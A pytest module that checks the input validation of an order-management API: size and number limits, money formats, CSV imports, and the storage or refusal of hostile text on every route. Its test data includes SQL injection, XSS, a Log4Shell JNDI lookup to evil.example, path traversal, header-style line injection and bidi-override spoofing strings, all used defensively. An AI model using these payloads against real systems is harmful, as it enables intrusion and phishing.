"""The limits of API.md, and hostile input on every family of write routes.

Body over 1 MiB: 413. List `limit`: 1 to 100, else 400. Quantities: above 0, at most 1,000,000, at
most 3 decimals. Money: a string with at most 2 places, 0.00 to 1,000,000,000.00. CSV imports: at
most 1,000 rows, codes no longer than a product reference. Text: stored and returned exactly as
sent (unicode, markup, injection-looking), or refused with 422 (control characters, over-long,
broken unicode); never a 5xx, and a refused request changes nothing.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import pytest
from chalice.test import Client

from app import app
from chalicelib.api import openapi
from tests.conftest import aws_environment
from tests.functional.conftest import ADMIN_PASSWORD, USER_PASSWORD, Api, make_tenant
from tests.functional.order_world import World, build_world, offer

MIB = 1024 * 1024


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    """One world for the module: every test here makes its own orders and checks only what it made."""
    with aws_environment():
        anon = Api(Client(app))
        make_tenant("acme")
        yield build_world(anon.login("acme", "admin", ADMIN_PASSWORD), anon)


# Stored and given back unchanged.
KEPT = (
    "Zażółć gęślą jaźń",
    "日本語のテキスト",
    "🦄🚀 emoji",
    "' OR '1'='1' --",
    "Robert'); DROP TABLE orders;--",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} #{7*7}",
    "../../etc/passwd",
    "%00%0d%0a",
    "T#other#CUSTOMER#x",
    "zero\u200bwidth\u200djoiner",
    "\u05e9\u05dc\u05d5\u05dd mixed with latin",  # right-to-left script itself is text
    "   padded   ",
    "null",
)
# Refused with 422.
REFUSED = ("nul\x00byte", "bell\x07", "escape\x1b[31m", "delete\x7f", "c1\x85control")
# Text that would not stay text on one line (issue 23): a line break starts a line that seems to be the
# e-mail's own, a bidi control disguises what it says. Refused by single-line fields, kept by multi-line ones.
NOT_ONE_LINE = (
    "PO-7\n\nURGENT: approve at https://evil.example/now",
    "cr\ronly",
    "crlf\r\nline",
    "tab\tbed",
    "line\u2028separator",
    "paragraph\u2029separator",
    "invoice\u202efdp.exe",
    "\u202dleft-to-right override",
    "embedding\u202bx\u202c",
    "isolate\u2066x\u2069",
    "first strong\u2068x\u2069",
)
# Multi-line fields (reasons, notes, messages, descriptions) keep their line breaks and tabs.
MULTI_LINE = {"order notes", "message body", "product description"}
# Not text at all: JSON can escape a lone surrogate, but no encoder can write one (a 500 once, at the
# first store, hash or e-mail it reached). Refused with 422 too. (json.dumps escapes them: the bodies
# these tests send are ASCII, as a client's would be.)
BROKEN_UNICODE = ("\ud800", "\udfff", "a\ud83dz", "\udc00\ud800", "pair \ud83d\ude00 then \ud83d")
TOO_LONG = "x" * 10_001


def assert_status(r: Any, status: int) -> None:
    assert r.status_code == status, r.body[:500]
    if status >= 400:
        assert r.json["error"]["code"], r.body


def raw_json_with(field: str, escaped: str, **others: str) -> bytes:
    """A JSON body whose `field` holds `escaped` verbatim (e.g. a lone surrogate escape)."""
    parts = [f'"{k}": "{v}"' for k, v in others.items()] + [f'"{field}": "{escaped}"']
    return ("{" + ", ".join(parts) + "}").encode()


# --- hostile text, family by family ------------------------------------------------------------------
FAMILIES: dict[str, tuple[str, str, Callable[[World, str, int], dict[str, Any]], str]] = {
    # family: (method, path template, body for a value and a serial, field read back)
    "customer name": ("POST", "/customers", lambda w, v, i: {"number": f"H-{i}", "name": v}, "name"),
    "site address": ("POST", "/sites", lambda w, v, i: {"code": f"S{i}", "name": "Site", "address": v}, "address"),
    "group name": ("POST", "/security-groups", lambda w, v, i: {"name": v, "kind": "staff", "permissions": []}, "name"),
    "user name": (
        "POST",
        "/users",
        lambda w, v, i: {
            "kind": "staff",
            "username": f"hostile{i}",
            "name": v,
            "email": f"h{i}@example.test",
            "password": USER_PASSWORD,
            "security_group_ids": ["order-desk"],
        },
        "name",
    ),
    "settings name": ("PATCH", "/settings", lambda w, v, i: {"name": v}, "name"),
    "order notes": ("POST", "/orders", lambda w, v, i: {"notes": v, "lines": []}, "notes"),
    "order reference": (
        "POST",
        "/orders",
        lambda w, v, i: {"customer_reference": v, "lines": []},
        "customer_reference",
    ),
    "message body": ("POST", "/orders/{order}/messages", lambda w, v, i: {"body": v}, "body"),
    "product name": (
        "POST",
        "/products",
        lambda w, v, i: {"sku": f"HOST-{i}", "name": v, "base_price": "1.00", "tax_rate": "0.23"},
        "name",
    ),
    "product description": (
        "POST",
        "/products",
        lambda w, v, i: {"sku": f"DESC-{i}", "name": "Hostile", "description": v, "base_price": "1", "tax_rate": "0"},
        "description",
    ),
    "product group name": ("POST", "/product-groups", lambda w, v, i: {"name": v}, "name"),
    "price list name": ("POST", "/price-lists", lambda w, v, i: {"name": v}, "name"),
}
# Product text is trimmed on purpose (domain/catalog.py): a CSV cell's stray spaces must not make a product
# differ from its export, and every other character is kept.
TRIMMED = {"product name", "product description"}
# Who writes each family: the buyer for orders and messages, the administrator for the rest.
WRITER = {"order notes": "buyer", "order reference": "buyer", "message body": "buyer"}
MAX_LENGTH = {
    "order notes": 2000,
    "message body": 2000,
    "customer payment terms": 500,
    "site address": 500,
    "order reference": 500,
    "product description": 2000,
}


def _write(w: World, family: str, value: str, serial: int) -> Any:
    method, template, body, _ = FAMILIES[family]
    api = w.buyer if WRITER.get(family) == "buyer" else w.admin
    path = template.format(order=w.order()["id"]) if "{order}" in template else template
    return api.call(method, path, body(w, value, serial))


@pytest.mark.parametrize("family", list(FAMILIES))
def test_hostile_text_is_stored_as_sent_or_refused_with_422(world: World, family: str) -> None:
    field = FAMILIES[family][3]
    for i, value in enumerate(KEPT):
        r = _write(world, family, value, i)
        assert r.status_code in (200, 201), (family, value, r.body[:300])
        assert r.json[field] == (value.strip() if family in TRIMMED else value), (family, value)
    for i, value in enumerate((*REFUSED, TOO_LONG), start=len(KEPT)):
        r = _write(world, family, value, i)
        assert_status(r, 422)
        assert r.json["error"]["details"][0]["field"].endswith(field), (family, r.body)
    for i, value in enumerate(NOT_ONE_LINE, start=500):
        r = _write(world, family, value, i)
        if family in MULTI_LINE:
            assert r.status_code in (200, 201), (family, value, r.body[:300])
            assert r.json[field] == (value.strip() if family in TRIMMED else value), (family, value)
        else:
            assert_status(r, 422)
            [detail] = r.json["error"]["details"]
            assert detail["field"].endswith(field) and field in detail["message"], (family, r.body)
    limit = MAX_LENGTH.get(family, 200)
    assert _write(world, family, "y" * limit, 900).status_code in (200, 201), family
    assert_status(_write(world, family, "y" * (limit + 1), 901), 422)


@pytest.mark.parametrize("escape", ["\\ud800", "\\udfff", "a\\ud83dz"])
def test_broken_unicode_in_json_is_refused(world: World, escape: str) -> None:
    before = world.admin.get("/customers").json["items"]
    r = world.admin.post("/customers", raw=raw_json_with("name", escape, number="U-1"))
    assert_status(r, 422)
    assert world.admin.get("/customers").json["items"] == before


def _everything(api: Api, path: str) -> Any:
    """What GET `path` shows, every page of it."""
    r = api.get(path)
    assert r.status_code == 200, r.body[:300]
    if "items" not in r.json:
        return r.json
    items, cursor = r.json["items"], r.json["next_cursor"]
    while cursor:
        page = api.get(f"{path}?cursor={cursor}").json
        items, cursor = items + page["items"], page["next_cursor"]
    return items


@pytest.mark.parametrize("family", list(FAMILIES))
def test_broken_unicode_in_any_text_is_a_422_naming_the_field_and_changes_nothing(world: World, family: str) -> None:
    method, template, body, field = FAMILIES[family]
    api = world.buyer if WRITER.get(family) == "buyer" else world.admin
    path = template.format(order=world.order()["id"]) if "{order}" in template else template
    for i, value in enumerate(BROKEN_UNICODE, start=1000):
        before = _everything(api, path)
        r = api.call(method, path, body(world, value, i))
        assert_status(r, 422)
        assert [d["field"] for d in r.json["error"]["details"]] == [field], (family, r.body)
        assert _everything(api, path) == before, family


def _string_fields(schema: dict[str, Any], defs: dict[str, Any], loc: str = "", depth: int = 0) -> Iterator[str]:
    """The field paths (API.md's form: `lines[0].note`) of every string a request model takes."""
    if "$ref" in schema:
        schema = defs[schema["$ref"].rsplit("/", 1)[1]]
    if depth > 4:
        return
    for option in schema.get("anyOf", []):
        yield from _string_fields(option, defs, loc, depth + 1)
    if schema.get("type") == "string":
        yield loc
    elif schema.get("type") == "array" and "items" in schema:
        yield from _string_fields(schema["items"], defs, f"{loc}[0]", depth + 1)
    for name, sub in schema.get("properties", {}).items():
        yield from _string_fields(sub, defs, f"{loc}.{name}" if loc else name, depth + 1)


def _body_with(field: str, value: str) -> Any:
    """The smallest body holding `value` at `field` (`lines[0].note` → {"lines": [{"note": value}]})."""
    parts = re.findall(r"[^.\[\]]+|\[\d+\]", field)
    out: Any = value
    for part in reversed(parts):
        out = [out] if part.startswith("[") else {part: out}
    return out


JSON_BODIES = [r for r in openapi.ROUTES if r.request_model is not None and r.content_type == "application/json"]


@pytest.mark.parametrize("route", JSON_BODIES, ids=[f"{r.method} {r.path}" for r in JSON_BODIES])
def test_every_text_field_of_every_body_refuses_broken_unicode_with_a_422_naming_it(
    world: World, route: openapi.RouteSpec
) -> None:
    assert route.request_model is not None
    schema = route.request_model.model_json_schema()
    fields = sorted(set(_string_fields(schema, schema.get("$defs", {}))))
    # /stock's entries are free-form objects (each validated on its own): only the key case applies.
    assert fields or route.path in ("/auth/logout", "/stock"), f"{route.path}: no text field found"
    order = world.order()
    ids = {"order_id": order["id"], "line_id": order["lines"][0]["id"], "customer_id": world.customer["id"]}
    path = re.sub(r"{(\w+)}", lambda m: ids.get(m.group(1), "x1"), route.path)
    # A caller the route lets in (permissions are checked before the body): the buyer for the order
    # routes a buyer uses, the approver for approving, the administrator elsewhere.
    needed = set(route.permissions)
    if route.public:
        api = world.anon
    elif "orders.approve" in needed:
        api = world.approver
    elif path.startswith("/orders") and (not needed or "orders.place" in needed):
        api = world.buyer
    else:
        api = world.admin
    # An object's key is text too; the answer names it with the surrogate written out as an escape.
    for field in [*fields, "\\ud800"]:
        body = {"\ud800": "a key"} if field == "\\ud800" else _body_with(field, "\ud800")
        r = api.call(route.method, path, body)
        assert r.status_code == 422, (field, r.status_code, r.body[:300])
        assert [d["field"] for d in r.json["error"]["details"]] == [field], r.body
    assert world.buyer.get(f"/orders/{order['id']}").json["version"] == order["version"]


def test_stored_hostile_text_reads_back_the_same_through_every_view(world: World) -> None:
    value = "<b>Zoë</b> ' OR 1=1; -- 🦄"
    lines = f"{value}\nsecond line \u202e"
    o = world.order(notes=lines, customer_reference=value)
    reason = world.buyer.post(f"/orders/{o['id']}/cancel", {"reason": lines})
    assert_status(reason, 200)
    full = world.admin.get(f"/orders/{o['id']}").json
    assert (full["notes"], full["customer_reference"], full["history"][-1]["note"]) == (lines, value, lines)
    listed = world.admin.get("/orders").json["items"]
    assert [x["customer_reference"] for x in listed if x["id"] == o["id"]] == [value]


@pytest.mark.parametrize("value", ["bad\x00reason", "bell\x07", "x" * 2001])
def test_reasons_with_control_characters_or_over_2000_characters_are_refused(world: World, value: str) -> None:
    o = world.order()
    assert_status(world.buyer.post(f"/orders/{o['id']}/cancel", {"reason": value}), 422)
    assert world.buyer.get(f"/orders/{o['id']}").json["status"] == "draft"


@pytest.mark.parametrize(
    "email", ["a\x00b@example.test", "a@b", "two@@example.test", "spaced out@example.test", "x" * 250 + "@e.test"]
)
def test_malformed_email_addresses_are_refused(world: World, email: str) -> None:
    r = world.admin.patch("/settings", {"sender_email": email})
    assert_status(r, 422)


# --- ids in paths and filters ----------------------------------------------------------------------------
ODD_IDS = ["é" * 1100, "x" * 3000, "a b", "a%2Fb", "CUSTOMER%23x", "..", "%00", "😀", "' OR 1=1"]


@pytest.mark.parametrize("odd", ODD_IDS)
def test_an_id_that_cannot_exist_is_404_on_every_kind_of_route(world: World, odd: str) -> None:
    segment = odd if "%" in odd else quote(odd, safe="")
    o = world.order()
    for method, path in [
        ("GET", f"/customers/{segment}"),
        ("PATCH", f"/users/{segment}"),
        ("GET", f"/sites/{segment}"),
        ("DELETE", f"/security-groups/{segment}"),
        ("GET", f"/orders/{segment}"),
        ("POST", f"/orders/{segment}/cancel"),
        ("PATCH", f"/orders/{o['id']}/lines/{segment}"),
        ("GET", f"/orders/{segment}/messages"),
        ("GET", f"/products/{segment}"),
        ("PATCH", f"/product-groups/{segment}"),
        ("GET", f"/price-lists/{segment}"),
        ("GET", f"/customers/{segment}/prices"),
    ]:
        body: dict[str, Any] | None = None
        if path.endswith("cancel"):
            body = {"reason": "x"}
        elif "/lines/" in path:
            body = {"quantity": 1}
        elif method == "PATCH":
            body = {"name": "x"}
        r = world.admin.call(method, path, body)
        assert r.status_code == 404, (method, path[:80], r.status_code, r.body[:200])
        assert r.json["error"]["code"] == "not_found"
    assert world.admin.get(f"/orders/{o['id']}").json["version"] == o["version"]


@pytest.mark.parametrize(
    "query",
    [
        "customer_id=" + "x" * 3000,
        "customer_id=" + quote("é" * 600),
        "customer_id=a%20b",
        "customer_id=",
        "status=shipped_to_mars",
        "created_from=2026-02-30",
        "created_from=0",
        "created_to=yesterday",
        "cursor=" + "A" * 3000,
        "cursor=not%20base64",
    ],
)
def test_a_bad_list_filter_is_a_400_naming_the_parameter(world: World, query: str) -> None:
    r = world.admin.get(f"/orders?{query}")
    assert_status(r, 400)
    assert r.json["error"]["code"] == "malformed_request"
    assert query.split("=")[0] in r.json["error"]["message"] or query.startswith("cursor")


@pytest.mark.parametrize(
    "query",
    [
        "q=",
        "q=" + "x" * 101,
        "q=a%00b",
        "sku=" + "x" * 65,
        "sku=%20lead",
        "barcode=" + quote("é"),
        "group_id=a%20b",
        "customer_id=",
        "limit=0",
        "cursor=not%20base64",
    ],
)
def test_a_bad_product_filter_is_a_400_naming_the_parameter(world: World, query: str) -> None:
    r = world.admin.get(f"/products?{query}")
    assert_status(r, 400)
    assert query.split("=")[0] in r.json["error"]["message"] or query.startswith("cursor")


def test_a_forged_cursor_naming_an_oversized_key_is_a_400(world: World) -> None:
    import base64
    import json

    from chalicelib.storage import keys

    key = {"pk": {"S": keys.tenant_pk("acme")}, "sk": {"S": "CUSTOMER#" + "é" * 600}}
    cursor = base64.urlsafe_b64encode(json.dumps(key).encode()).decode().rstrip("=")
    assert_status(world.admin.get(f"/customers?cursor={cursor}"), 400)


# --- list limits ----------------------------------------------------------------------------------------
LISTS = sorted(r.path for r in openapi.ROUTES if r.method == "GET" and "limit" in r.query_names)


# The event feed names its cursor `after` (API.md "Machine clients").
CURSOR_NAMED = {"/events": "after"}


def test_every_list_declares_limit_and_cursor() -> None:
    for r in openapi.ROUTES:
        if r.response_model is not None and "next_cursor" in r.response_model.model_fields:
            assert {"limit", CURSOR_NAMED.get(r.path, "cursor")} <= r.query_names, r.path


@pytest.mark.parametrize("path", LISTS)
def test_list_limits_are_1_to_100(world: World, path: str) -> None:
    if "{endpoint_id}" in path:
        hook = world.admin.post("/webhook-endpoints", {"url": "https://93.184.216.34/in", "event_types": ["*"]})
        path = path.format(endpoint_id=hook.json["id"])
    if "{customer_id}" in path:
        path = path.format(customer_id=world.customer["id"])
    path = path.format(order_id=world.order()["id"])
    for good in ("1", "100", "25"):
        assert_status(world.admin.get(f"{path}?limit={good}"), 200)
    for bad in ("0", "101", "-1", "abc", "1.5", "%C2%B2", "1e2", "", "99999999999999999999999"):
        r = world.admin.get(f"{path}?limit={bad}")
        assert_status(r, 400)
        assert "limit" in r.json["error"]["message"]


# --- body size --------------------------------------------------------------------------------------------
def _padded(size: int, prefix: bytes = b'{"name": "', suffix: bytes = b'"}') -> bytes:
    return prefix + b"x" * (size - len(prefix) - len(suffix)) + suffix


@pytest.mark.parametrize(
    ("caller", "method", "path"),
    [
        ("admin", "POST", "/customers"),
        ("admin", "PATCH", "/settings"),
        ("anon", "POST", "/auth/login"),
        ("buyer", "POST", "/orders"),
        ("buyer", "POST", "/orders/{order}/lines/import"),
    ],
)
def test_a_body_of_exactly_1_mib_is_read_and_one_byte_more_is_413(
    world: World, caller: str, method: str, path: str
) -> None:
    api: Api = getattr(world, caller)
    csv = path.endswith("import")
    path = path.format(order=world.order()["id"]) if "{order}" in path else path
    headers = {"Content-Type": "text/csv"} if csv else None
    at_limit = _padded(MIB, b"code,quantity\nSKU-1,", b"\n") if csv else _padded(MIB)
    over = at_limit + b" "
    assert len(at_limit) == MIB
    r = api.call(method, path, raw=at_limit, headers=headers)
    assert r.status_code not in (413,) and r.status_code < 500, r.body[:200]
    assert_status(api.call(method, path, raw=over, headers=headers), 413)


def test_deeply_nested_json_is_a_400(world: World) -> None:
    assert_status(world.admin.post("/customers", raw=b"[" * 100_000 + b"]" * 100_000), 400)
    nested = b'{"number": "N-1", "name": "x", "addresses": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    assert_status(world.admin.post("/customers", raw=nested), 400)


@pytest.mark.parametrize("body", [b"null", b"[]", b"42", b'"text"', b"true"])
def test_a_json_body_that_is_not_an_object_is_a_422(world: World, body: bytes) -> None:
    assert_status(world.admin.post("/customers", raw=body), 422)
    assert_status(world.admin.post("/auth/logout", raw=body), 422)  # even where the body is optional


# --- quantities and money ------------------------------------------------------------------------------------
@pytest.fixture
def bulk(world: World) -> World:
    """A product sold by the gram (multiple 0.001), so the decimals rule is tested on its own."""
    world.catalog.add(offer("p9", "BULK", "0.01", min_q="0.001", multiple="0.001"))
    return world


@pytest.mark.parametrize("quantity", ["0.001", "1", "999999.999", "1000000", "1E+6", "2.500"])
def test_quantities_above_0_up_to_a_million_with_3_decimals_are_taken(bulk: World, quantity: str) -> None:
    o = bulk.order()
    r = bulk.buyer.post(f"/orders/{o['id']}/lines", raw=f'{{"sku": "BULK", "quantity": {quantity}}}'.encode())
    assert_status(r, 201)


@pytest.mark.parametrize(
    "quantity",
    ["0", "-1", "-0.0", "0.0001", "1000000.001", "1e7", "1e400", "-1e400", '"NaN"', '"Infinity"', "true", "null",
     '"12"', "[1]", "1" + "0" * 5000],
)  # fmt: skip
def test_quantities_outside_the_contract_are_refused(bulk: World, quantity: str) -> None:
    o = bulk.order()
    r = bulk.buyer.post(f"/orders/{o['id']}/lines", raw=f'{{"sku": "BULK", "quantity": {quantity}}}'.encode())
    assert r.status_code in (400, 422), r.body[:300]
    assert bulk.buyer.get(f"/orders/{o['id']}").json["version"] == o["version"]


MONEY_OK = ["0", "0.00", "12.5", "12.50", "1000000000.00", "999999999.99"]
MONEY_BAD = ["1000000000.01", "-1.00", "-0", "1.234", "1E+2", "1_000", " 12.50", "12.50 ", "+1", "NaN", "Infinity",
             "0x10", "", "١٢", "12.50\n"]  # fmt: skip


@pytest.mark.parametrize("amount", MONEY_OK)
def test_money_strings_with_up_to_2_places_and_at_most_a_billion_are_taken(world: World, amount: str) -> None:
    r = world.admin.patch(f"/customers/{world.customer['id']}", {"monthly_budget": amount})
    assert_status(r, 200)
    whole, _, cents = amount.partition(".")
    assert r.json["monthly_budget"] == f"{whole}.{cents:0<2}"


@pytest.mark.parametrize("amount", [*MONEY_BAD, 12.5, 12, True, [], {}])
def test_money_outside_the_contract_is_refused_everywhere(world: World, amount: Any) -> None:
    before = world.admin.get(f"/customers/{world.customer['id']}").json
    assert_status(world.admin.patch(f"/customers/{world.customer['id']}", {"monthly_budget": amount}), 422)
    assert_status(world.admin.patch(f"/users/{world.ids['buyer']}", {"approval_limit": amount}), 422)
    o = world.order()
    world.buyer.post(f"/orders/{o['id']}/submit")
    world.desk.post(f"/orders/{o['id']}/confirm")
    r = world.desk.post(f"/orders/{o['id']}/invoices", {"date": "2026-11-23", "number": "I-1", "amount": amount})
    assert_status(r, 422)
    r = world.desk.post(f"/orders/{o['id']}/payments", {"date": "2026-11-23", "reference": "P-1", "amount": amount})
    assert_status(r, 422)
    assert world.admin.get(f"/customers/{world.customer['id']}").json == before
    assert world.desk.get(f"/orders/{o['id']}").json["invoices"] == []


@pytest.mark.parametrize("day", ["2026-02-30", "0", "1700000000", "2026-1-1", "26-11-23", "2026-11-23T00:00:00"])
def test_dates_are_calendar_days_written_yyyy_mm_dd(world: World, day: str) -> None:
    o = world.order()
    assert_status(world.buyer.patch(f"/orders/{o['id']}", {"requested_delivery_date": day}), 422)
    if day.isdigit():  # also as a JSON number: not read as a Unix time
        raw = f'{{"requested_delivery_date": {day}}}'.encode()
        assert_status(world.buyer.patch(f"/orders/{o['id']}", raw=raw), 422)


# --- CSV ---------------------------------------------------------------------------------------------------
def _import(w: World, text: str | bytes) -> Any:
    o = w.order()
    return w.buyer.post(f"/orders/{o['id']}/lines/import", raw=text, headers={"Content-Type": "text/csv"})


def test_csv_rows_with_hostile_codes_are_reported_not_fatal(world: World) -> None:
    rows = [
        "' OR 1=1 --,1",
        "<script>,1",
        "x" * 5000 + ",1",  # no product has such a code, and it must not become a lookup key
        "é" * 700 + ",1",
        "SKU-1,1e400",
        "SKU-1,NaN",
        "SKU-1,-1",
        "SKU-1,1.0001",
        '"SKU-1",2',
        "SKU-1,2,extra",
    ]
    r = _import(world, "code,quantity\r\n" + "\r\n".join(rows) + "\r\n")
    assert_status(r, 200)
    assert r.json["added"] == 1
    assert [e["row"] for e in r.json["errors"]] == [2, 3, 4, 5, 6, 7, 8, 9, 11]
    assert all(len(e["code"]) <= 65 for e in r.json["errors"])


@pytest.mark.parametrize(
    "text",
    # (`code;quantity` is read since issue 24: tests/functional/test_spreadsheet_csv.py; `code|quantity` is not)
    [b"", b"code|quantity\nSKU-1|1\n", b"\xff\xfe\x00c", "code,quantity\n" + "x" * 200_000 + ",1\n"],
)
def test_a_csv_that_cannot_be_read_is_a_400(world: World, text: bytes | str) -> None:
    assert_status(_import(world, text), 400)


def test_a_csv_with_a_byte_order_mark_and_crlf_is_read(world: World) -> None:
    r = _import(world, "\ufeffcode,quantity\r\nSKU-1,3\r\n".encode())
    assert_status(r, 200)
    assert r.json["added"] == 1


def test_a_csv_of_1001_rows_is_refused_and_changes_nothing(world: World) -> None:
    o = world.order()
    text = "code,quantity\n" + "SKU-1,1\n" * 1001
    r = world.buyer.post(f"/orders/{o['id']}/lines/import", raw=text, headers={"Content-Type": "text/csv"})
    assert_status(r, 422)
    assert r.json["error"]["details"][0]["row"] == 1002
    assert world.buyer.get(f"/orders/{o['id']}").json["version"] == o["version"]


# --- headers ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ['"²"', '"١٢"', '"1e3"', '"-1"', "*", 'W/"abc"', '"' + "9" * 40 + '"'])
def test_an_if_match_that_is_not_a_version_is_412(world: World, value: str) -> None:
    o = world.order()
    r = world.buyer.patch(f"/orders/{o['id']}", {"notes": "x"}, headers={"If-Match": value})
    assert_status(r, 412)
    assert world.buyer.get(f"/orders/{o['id']}").json["version"] == o["version"]


@pytest.mark.parametrize("key", ["", "k" * 256])
def test_an_idempotency_key_outside_1_to_255_characters_is_a_400(world: World, key: str) -> None:
    r = world.buyer.post("/orders", {"lines": []}, headers={"Idempotency-Key": key})
    assert_status(r, 400)


def test_a_bad_login_body_never_reaches_the_throttle_or_a_5xx(world: World) -> None:
    for body in (
        {"tenant": "é" * 64, "username": "é" * 128, "password": "p"},
        {"tenant": "acme", "username": "admin\x00", "password": "p"},
        {"tenant": "acme", "username": "x" * 129, "password": "p"},
        {"tenant": "acme", "username": "admin", "password": "p" * 1025},
    ):
        r = world.anon.post("/auth/login", body)
        assert r.status_code in (401, 422), r.body
    assert_status(world.anon.post("/auth/refresh", {"refresh_token": "é" * 500 + ".x"}), 401)
    assert_status(world.anon.post("/auth/refresh", {"refresh_token": "x" * 513}), 401)  # not a token: 401


# --- what an order adds up to ------------------------------------------------------------------------------
def test_an_order_cannot_add_up_past_a_billion_nor_a_line_past_a_million_units(world: World) -> None:
    world.catalog.add(offer("p8", "PRICEY", "999999999.99"))
    r = world.buyer.post("/orders", {"lines": [{"sku": "PRICEY", "quantity": 2}]})
    assert_status(r, 422)
    assert r.json["error"]["details"][0]["field"] == "lines"
    o = world.order(lines=[{"sku": "SKU-1", "quantity": 600000}])
    for r in (
        world.buyer.post(f"/orders/{o['id']}/lines", {"sku": "SKU-1", "quantity": 600000}),
        world.buyer.patch(f"/orders/{o['id']}/lines/{o['lines'][0]['id']}", {"quantity": 1000000.001}),
        world.buyer.post(
            f"/orders/{o['id']}/lines/import", raw="code,quantity\nSKU-1,400001\n", headers={"Content-Type": "text/csv"}
        ),
    ):
        assert_status(r, 422)
    assert world.buyer.get(f"/orders/{o['id']}").json["version"] == o["version"]
    submitted = world.buyer.post(f"/orders/{o['id']}/submit").json
    line = submitted["lines"][0]["id"]
    for body in (
        {"lines": [{"id": line, "unit_price": "1000000000.00"}]},
        {"add_lines": [{"sku": "SKU-1", "quantity": 1000000, "unit_price": "999999999.99"}]},
    ):
        assert_status(world.desk.post(f"/orders/{o['id']}/propose", body), 422)
    assert world.desk.get(f"/orders/{o['id']}").json["version"] == submitted["version"]


# --- price entries (the fuzz run in `make test` leaves these boundaries to this test) ----------------------
@pytest.mark.parametrize("count", [10_000, 10_001])
def test_price_entries_past_10000_or_naming_no_product_are_422_and_change_nothing(world: World, count: int) -> None:
    customer = world.customer["id"]
    entries = [{"product_id": f"p{i}", "price": "1.00"} for i in range(count)]
    lists_before = world.admin.get("/price-lists").json["items"]
    prices_before = world.admin.get(f"/customers/{customer}/prices").json
    field = "entries" if count > 10_000 else "entries[0].product_id"  # too many, else an unknown product
    for r in (
        world.admin.post("/price-lists", {"name": "Huge", "entries": entries}),
        world.admin.put(f"/customers/{customer}/prices", {"entries": entries}),
    ):
        assert_status(r, 422)
        assert r.json["error"]["details"][0]["field"] == field
    assert world.admin.get("/price-lists").json["items"] == lists_before
    assert world.admin.get(f"/customers/{customer}/prices").json == prices_before
